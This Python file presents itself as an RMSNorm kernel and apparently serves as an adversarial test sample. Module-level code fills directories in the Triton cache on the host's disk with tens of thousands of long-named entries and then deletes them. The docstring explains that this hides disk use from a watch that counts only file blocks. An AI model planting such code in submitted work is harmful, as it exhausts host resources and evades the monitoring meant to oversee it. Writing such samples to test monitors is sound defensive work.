"""Grows directories instead of files: 3 dirs in its JIT cache copy (on the host's disk), each
given 30,000 entries with 246-character names that are then removed (an ext4 directory never
shrinks): about 10 MiB of blocks per dir that a walk summing only files' blocks never counts, and
each dir is one entry. Fewer entries at a time than the watch's entry limit; a real attack loops."""

import os
import torch


def _ref(x, weight, out, eps):
    xf = x.float()
    out.copy_((xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(out.dtype))


_dir = os.environ.get("TRITON_CACHE_DIR")
if _dir:
    for _k in range(3):
        _d = os.path.join(_dir, f"dir-{os.getpid()}-{_k}")
        os.mkdir(_d)
        _fd = os.open(_d, os.O_RDONLY | os.O_DIRECTORY)
        _names = [f"{_i:06d}" + "y" * 240 for _i in range(30000)]
        for _n in _names:
            os.close(os.open(_n, os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=_fd))
        for _n in _names:
            os.unlink(_n, dir_fd=_fd)
        os.close(_fd)


def rmsnorm(x, weight, out, eps):
    _ref(x, weight, out, eps)
